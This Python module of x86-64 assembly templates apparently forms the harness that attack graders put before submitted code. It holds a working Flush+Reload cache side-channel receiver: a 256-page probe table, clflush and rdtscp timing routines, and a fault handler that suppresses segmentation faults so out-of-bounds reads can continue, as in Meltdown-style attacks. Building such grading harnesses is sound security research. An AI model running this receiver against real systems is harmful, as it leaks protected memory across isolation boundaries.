"""Assembly that graders of attacks put before an answer: a table of 256 lines, Flush+Reload, a fault handler."""

from __future__ import annotations

from typing import Final

TABLE: Final = """\
    mov eax, 9                      # mmap: the table, a line for each value in a page of its own
    mov edi, 0x10000000
    mov esi, 0x100000
    mov edx, 3
    mov r10d, 0x32
    mov r8, -1
    xor r9d, r9d
    syscall
    mov edi, 0x10000000
    mov ecx, 256
lab_fill:
    mov [rdi], rcx
    add rdi, 4096
    dec ecx
    jnz lab_fill
"""
"""Map it at 0x10000000: a line for each value of a byte, in a page of its own."""
RECEIVER: Final = (
    """
    .text
_start:
"""
    + TABLE
    + """\
    mov eax, 13                     # rt_sigaction
    mov edi, 11
    lea rsi, [rip + lab_action]
    xor edx, edx
    mov r10d, 8
    syscall
    lea rbx, [rip + lab_result]
    xor ebp, ebp
lab_next:
    mov rdi, {first:#x}
    add rdi, rbp
    push rbx
    push rbp
    call {function}
    pop rbp
    pop rbx
    mov [rbx + 8 * rbp], rax
    inc ebp
    cmp ebp, {count}
    jb lab_next
    mov eax, 1
    mov edi, 1
    mov rsi, rbx
    mov edx, {size}
    syscall
    mov eax, 60
    xor edi, edi
    syscall
lab_on_fault:                       # go on at `landing`, or give up
    mov rax, [rip + landing]
    test rax, rax
    jz lab_lost
    mov [rdx + 168], rax
    ret
lab_lost:
    mov eax, 60
    mov edi, 98
    syscall
lab_restore:
    mov eax, 15                     # rt_sigreturn
    syscall
flush_table:
    mov edi, 0x10000000
    mov ecx, 256
lab_flush:
    clflush [rdi]
    add rdi, 4096
    dec ecx
    jnz lab_flush
    mfence
    lfence
    ret
reload_table:
    mfence
    mov r8d, 13
    mov r9d, 256
    mov r10, -1
lab_reload:
    mov edi, r8d
    shl edi, 12
    add edi, 0x10000000
    rdtscp
    mov esi, eax
    lfence
    mov al, [rdi]
    rdtscp
    sub eax, esi
    mov r11, r10
    cmp eax, 140
    cmovb r11, r8
    test r8d, r8d                   # line 0 does not count
    cmovnz r10, r11
    add r8d, 167
    and r8d, 255
    dec r9d
    jnz lab_reload
    mov rax, r10
    ret
    .data
lab_action: .quad lab_on_fault, 0x4000004, lab_restore, 0
landing: .quad 0
lab_result: .zero {size}
"""
)
"""``function`` is called ``count`` times with RDI = ``first`` and on; ``size`` = 8 * count."""


def receiver(function: str, first: int, count: int) -> str:
    """The frame that calls ``function`` for each byte and writes what it returns to descriptor 1 as 64-bit numbers."""
    return RECEIVER.format(function=function, first=first & (1 << 64) - 1, count=count, size=8 * count)


__all__ = ["receiver"]
